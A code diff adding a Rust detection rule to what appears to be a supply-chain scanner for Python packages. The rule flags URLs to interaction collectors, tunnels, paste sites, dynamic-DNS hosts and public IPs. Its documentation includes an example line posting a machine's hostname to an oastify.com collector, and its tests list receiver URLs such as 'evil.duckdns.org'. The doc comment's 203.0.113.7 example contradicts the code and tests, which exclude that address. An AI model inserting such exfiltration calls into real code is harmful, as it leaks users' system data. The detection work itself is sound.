@@ -1,0 +1,303 @@
+use crate::finding::{Finding, Severity};
+use crate::python::names;
+use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, string_finding};
+
+declare_rule! {
+    /// URLs of services that exist to receive data from machines one does
+    /// not control: out-of-band testing collectors, tunnels, paste and
+    /// file-drop sites, dynamic-DNS hosts and bare public IP addresses.
+    ///
+    /// ## What it finds
+    /// Strings (after constant evaluation, so URLs assembled, reversed or
+    /// decoded at run time count) that are URLs whose host is
+    /// - an out-of-band interaction collector (`*.oastify.com`,
+    ///   `*.burpcollaborator.net`, interactsh's `*.oast.*` domains,
+    ///   `canarytokens`, `*.m.pipedream.net`, request-bin services,
+    ///   `webhook.site`, `dnslog.cn`, `ceye.io`);
+    /// - a tunnel endpoint (`<id>.ngrok-free.app`, `<id>.ngrok.io`,
+    ///   `<name>.trycloudflare.com`, `serveo.net`, `loca.lt`);
+    /// - a raw paste or file-drop (`pastebin.com/raw`, `paste.ee/r`,
+    ///   `transfer.sh`, `hastebin`);
+    /// - a dynamic-DNS name (`duckdns.org`, `ddns.net`, `hopto.org`,
+    ///   `zapto.org`, `no-ip`);
+    /// - a public IPv4 address (`http://203.0.113.7:8080/…`; private,
+    ///   loopback and link-local addresses are left to other rules),
+    ///
+    /// in a file that makes network calls.
+    ///
+    /// ## Why it matters
+    /// Dependency-confusion probes call home to interaction collectors;
+    /// stealers post to tunnels and paste sites because they are free,
+    /// anonymous and disposable; droppers fetch their second stage from a
+    /// bare IP. Libraries talk to their own services by name. A collector
+    /// is never a library's endpoint: high, critical when the code runs
+    /// without being called (install, start-up, import). The other kinds
+    /// are medium in code a user calls, high when it runs by itself.
+    ///
+    /// ## Example
+    /// ```python
+    /// import os, requests
+    /// requests.post("https://a1b2c3.oastify.com/", data=os.uname().nodename)
+    /// ```
+    ///
+    /// ## References
+    /// MITRE ATT&CK T1567 (Exfiltration Over Web Service), T1572 (Protocol
+    /// Tunneling), T1568.002 (Dynamic Resolution); Alex Birsan,
+    /// "Dependency Confusion" (2021).
+    pub struct Endpoints {
+        id: "AY302",
+        slug: "suspicious-endpoint",
+        category: Exfiltration,
+        severity: Critical,
+    }
+}
+
+/// What kind of receiver a host is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum Kind {
+    Collector,
+    Tunnel,
+    Paste,
+    DynamicDns,
+    RawIp,
+}
+
+impl Kind {
+    fn describe(self) -> &'static str {
+        match self {
+            Kind::Collector => "an out-of-band interaction collector",
+            Kind::Tunnel => "a tunnel endpoint",
+            Kind::Paste => "a paste or file-drop site",
+            Kind::DynamicDns => "a dynamic-DNS host",
+            Kind::RawIp => "a bare public IP address",
+        }
+    }
+}
+
+/// Host suffixes (matched on whole labels) and what they are. Tunnel and
+/// dynamic-DNS suffixes need a label of their own in front (a specific
+/// endpoint, not the provider's home page).
+const HOSTS: &[(&str, Kind, bool)] = &[
+    ("oastify.com", Kind::Collector, false),
+    ("burpcollaborator.net", Kind::Collector, false),
+    ("oast.fun", Kind::Collector, false),
+    ("oast.pro", Kind::Collector, false),
+    ("oast.live", Kind::Collector, false),
+    ("oast.site", Kind::Collector, false),
+    ("oast.online", Kind::Collector, false),
+    ("oast.me", Kind::Collector, false),
+    ("interact.sh", Kind::Collector, false),
+    ("canarytokens.com", Kind::Collector, false),
+    ("canarytokens.org", Kind::Collector, false),
+    ("m.pipedream.net", Kind::Collector, false),
+    ("requestbin.net", Kind::Collector, false),
+    ("requestcatcher.com", Kind::Collector, false),
+    ("webhook.site", Kind::Collector, false),
+    ("dnslog.cn", Kind::Collector, false),
+    ("ceye.io", Kind::Collector, false),
+    ("ngrok.io", Kind::Tunnel, true),
+    ("ngrok.app", Kind::Tunnel, true),
+    ("ngrok-free.app", Kind::Tunnel, true),
+    ("ngrok-free.dev", Kind::Tunnel, true),
+    ("trycloudflare.com", Kind::Tunnel, true),
+    ("serveo.net", Kind::Tunnel, false),
+    ("serveousercontent.com", Kind::Tunnel, true),
+    ("loca.lt", Kind::Tunnel, true),
+    ("localtunnel.me", Kind::Tunnel, true),
+    ("duckdns.org", Kind::DynamicDns, true),
+    ("ddns.net", Kind::DynamicDns, true),
+    ("hopto.org", Kind::DynamicDns, true),
+    ("zapto.org", Kind::DynamicDns, true),
+    ("no-ip.org", Kind::DynamicDns, true),
+    ("no-ip.biz", Kind::DynamicDns, true),
+    ("freemyip.com", Kind::DynamicDns, true),
+];
+
+/// Paste and file-drop URLs that serve what was uploaded, by host and
+/// path prefix.
+const PASTES: &[(&str, &str)] = &[
+    ("pastebin.com", "/raw"),
+    ("paste.ee", "/r/"),
+    ("hastebin.com", "/raw"),
+    ("transfer.sh", "/"),
+    ("rentry.co", "/raw"),
+];
+
+impl Rule for Endpoints {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
+        for file in facts.python {
+            if !file.calls.iter().any(|c| names::is_network(&c.name)) {
+                continue;
+            }
+            let mut seen = std::collections::BTreeSet::new();
+            // What network calls are given, templates included (`"https://"
+            // + host + "/?h=" + name`), then every string of the file.
+            for call in file.calls.iter().filter(|c| names::is_network(&c.name)) {
+                let Some((kind, host)) = call.arg_texts().find_map(classify) else {
+                    continue;
+                };
+                if !seen.insert((host.to_ascii_lowercase(), call.context)) {
+                    continue;
+                }
+                let mut f = code_finding(
+                    &Self::META,
+                    file,
+                    call,
+                    format!(
+                        "`{}` sends to {} ({host}) {}",
+                        call.name,
+                        kind.describe(),
+                        call.context.describe()
+                    ),
+                );
+                f.severity = grade(kind, call.context.is_automatic());
+                out.push(f);
+            }
+            for s in &file.strings {
+                let Some((kind, host)) = classify(&s.value) else {
+                    continue;
+                };
+                if !seen.insert((host.to_ascii_lowercase(), s.context)) {
+                    continue;
+                }
+                let mut f = string_finding(
+                    &Self::META,
+                    file,
+                    s,
+                    format!(
+                        "refers to {} ({host}) {}",
+                        kind.describe(),
+                        s.context.describe()
+                    ),
+                );
+                f.severity = grade(kind, s.context.is_automatic());
+                out.push(f);
+            }
+        }
+    }
+}
+
+fn grade(kind: Kind, automatic: bool) -> Severity {
+    match (kind, automatic) {
+        (Kind::Collector, true) => Severity::Critical,
+        (Kind::Collector, false) | (_, true) => Severity::High,
+        (_, false) => Severity::Medium,
+    }
+}
+
+/// The kind of receiver a URL in `text` points at, and its host.
+fn classify(text: &str) -> Option<(Kind, &str)> {
+    let mut rest = text;
+    while let Some(at) = rest.find("://") {
+        let scheme_ok = rest[..at]
+            .rsplit(|c: char| !c.is_ascii_alphanumeric())
+            .next()
+            .is_some_and(|s| {
+                let s = s.to_ascii_lowercase();
+                matches!(s.as_str(), "http" | "https" | "ws" | "wss" | "ftp" | "tcp")
+            });
+        let after = &rest[at + 3..];
+        let end = after
+            .find(['/', '?', '#', '"', '\'', ' ', '\n', '{'])
+            .unwrap_or(after.len());
+        let authority = &after[..end];
+        let host_port = authority.rsplit('@').next().unwrap_or(authority);
+        let host = host_port.split(':').next().unwrap_or(host_port);
+        let path = &after[end..];
+        if scheme_ok && let Some(kind) = host_kind(host, path) {
+            return Some((kind, host));
+        }
+        rest = after;
+    }
+    None
+}
+
+fn host_kind(host: &str, path: &str) -> Option<Kind> {
+    let lower = host.to_ascii_lowercase();
+    let lower = lower.trim_end_matches('.');
+    for (suffix, kind, needs_label) in HOSTS {
+        if lower == *suffix && !needs_label {
+            return Some(*kind);
+        }
+        if let Some(label) = lower.strip_suffix(suffix).and_then(|l| l.strip_suffix('.'))
+            && !label.is_empty()
+            && label != "www"
+        {
+            return Some(*kind);
+        }
+    }
+    for (site, prefix) in PASTES {
+        if (lower == *site || lower.strip_suffix(site).is_some_and(|l| l.ends_with('.')))
+            && path.starts_with(prefix)
+            && path.len() > prefix.len() + 1
+        {
+            return Some(Kind::Paste);
+        }
+    }
+    is_public_ipv4(lower).then_some(Kind::RawIp)
+}
+
+fn is_public_ipv4(host: &str) -> bool {
+    let Ok(ip) = host.parse::<std::net::Ipv4Addr>() else {
+        return false;
+    };
+    let [a, b, ..] = ip.octets();
+    !(ip.is_private()
+        || ip.is_loopback()
+        || ip.is_link_local()
+        || ip.is_unspecified()
+        || ip.is_broadcast()
+        || ip.is_documentation()
+        || a == 100 && (64..128).contains(&b)
+        || a >= 224)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn kinds_of_receivers() {
+        assert_eq!(
+            classify("https://abc123.oastify.com/x").map(|k| k.0),
+            Some(Kind::Collector)
+        );
+        assert_eq!(
+            classify("http://x.y.oast.fun").map(|k| k.0),
+            Some(Kind::Collector)
+        );
+        assert_eq!(
+            classify("https://reda-seq.ngrok-free.dev/tron").map(|k| k.0),
+            Some(Kind::Tunnel)
+        );
+        assert_eq!(
+            classify("https://pastebin.com/raw/AbCd1234").map(|k| k.0),
+            Some(Kind::Paste)
+        );
+        assert_eq!(
+            classify("http://evil.duckdns.org:8080/").map(|k| k.0),
+            Some(Kind::DynamicDns)
+        );
+        assert_eq!(
+            classify("http://144.24.115.170/receive_log").map(|k| k.0),
+            Some(Kind::RawIp)
+        );
+    }
+
+    #[test]
+    fn ordinary_hosts_are_not_receivers() {
+        assert_eq!(classify("https://ngrok.com/docs"), None);
+        assert_eq!(classify("https://www.duckdns.org/"), None);
+        assert_eq!(classify("https://pastebin.com/"), None);
+        assert_eq!(classify("http://127.0.0.1:8000/"), None);
+        assert_eq!(classify("http://192.168.1.10/"), None);
+        assert_eq!(classify("http://169.254.169.254/latest"), None);
+        assert_eq!(classify("http://203.0.113.7/"), None);
+        assert_eq!(classify("see oastify.com for details"), None);
+        assert_eq!(classify("https://notoastify.com/"), None);
+    }
+}
